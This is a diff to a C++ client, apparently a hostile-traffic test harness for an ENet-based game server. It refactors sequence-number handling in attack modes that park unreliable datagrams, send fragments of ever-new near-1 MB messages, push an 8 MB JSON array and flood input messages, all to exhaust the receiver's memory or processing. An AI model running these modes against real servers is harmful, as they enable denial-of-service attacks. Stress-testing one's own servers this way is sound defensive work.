@@ -78,18 +78,23 @@ struct Client {
     enet_uint16 now16() const { return (enet_uint16)(host->serviceTime & 0xFFFF); }
 };
 
-// Runs `attack` (one burst of datagrams for a connected peer) until the time is up, reconnecting when dropped.
+// Runs `attack` (one burst of datagrams for a connected peer) until the time is up, reconnecting when dropped;
+// the sequence number it is given starts at 0 on each connection.
 template <class F> void attack_loop(Client &c, int seconds, F attack) {
     auto start = Clock::now();
     long sent = 0;
+    int gen = 0;
+    enet_uint16 seq = 0;
     c.dial();
     while (ms_since(start) < seconds * 1000L) {
         if (!c.service() || !c.peer) {
             c.dial();
             continue;
         }
+        if (c.connected && gen != c.generation)
+            gen = c.generation, seq = 0;
         if (c.connected)
-            sent += attack(c);
+            sent += attack(c, seq);
         std::this_thread::sleep_for(std::chrono::microseconds(500));
     }
     printf("hostile: datagrams %ld disconnected %d\n", sent, c.disconnects);
@@ -146,11 +151,7 @@ int main(int argc, char **argv) {
     Client c(port);
     if (mode == "parked") {
         // Channel 5 never carries a reliable message, so sequence number 2 never becomes due.
-        enet_uint16 seq = 0;
-        int gen = 0;
-        attack_loop(c, seconds, [&](Client &cl) {
-            if (gen != cl.generation)
-                gen = cl.generation, seq = 0;
+        attack_loop(c, seconds, [&](Client &cl, enet_uint16 &seq) {
             for (int d = 0; d < 4; d++) {
                 std::string dg = enetcraft::header(cl.peer, cl.now16());
                 while (dg.size() + sizeof(ENetProtocolSendUnreliable) <= ENET_PROTOCOL_MAXIMUM_MTU)
@@ -161,16 +162,12 @@ int main(int argc, char **argv) {
         });
     } else if (mode == "fragments") {
         // Fragment 0 of ever new messages just under 1 MB: the receiver makes room for the whole message.
-        enet_uint16 start = 1;
-        int gen = 0;
-        attack_loop(c, seconds, [&](Client &cl) {
-            if (gen != cl.generation)
-                gen = cl.generation, start = 1;
+        attack_loop(c, seconds, [&](Client &cl, enet_uint16 &seq) {
             std::string dg = enetcraft::header(cl.peer, cl.now16());
-            for (int i = 0; i < 32; i++, start++)
-                enetcraft::fragment(dg, 6, start, 1000, 0, 1000 * 1000, 0, std::string(64, 'f'));
-            if (start > 4096 * 6)
-                start = 1;
+            for (int i = 0; i < 32; i++)
+                enetcraft::fragment(dg, 6, ++seq, 1000, 0, 1000 * 1000, 0, std::string(64, 'f'));
+            if (seq >= 4096 * 6)
+                seq = 0;
             enetcraft::send(cl.host->socket, cl.to, dg);
             return 1;
         });
@@ -179,7 +176,7 @@ int main(int argc, char **argv) {
         while (big.size() < 8 * 1024 * 1024)
             big += "1,";
         big += "1]";
-        attack_loop(c, seconds, [&](Client &cl) {
+        attack_loop(c, seconds, [&](Client &cl, enet_uint16 &) {
             if (cl.peer->data)
                 return 0;
             cl.peer->data = (void *)1;
@@ -188,11 +185,7 @@ int main(int argc, char **argv) {
         });
     } else if (mode == "flood") {
         const std::string msg = "{\"t\":\"input\",\"dx\":1,\"dy\":0}";
-        enet_uint16 group = 0;
-        int gen = 0;
-        attack_loop(c, seconds, [&](Client &cl) {
-            if (gen != cl.generation)
-                gen = cl.generation, group = 0;
+        attack_loop(c, seconds, [&](Client &cl, enet_uint16 &group) {
             for (int d = 0; d < 4; d++) {
                 std::string dg = enetcraft::header(cl.peer, cl.now16());
                 while (dg.size() + sizeof(ENetProtocolSendUnsequenced) + msg.size() <= ENET_PROTOCOL_MAXIMUM_MTU)
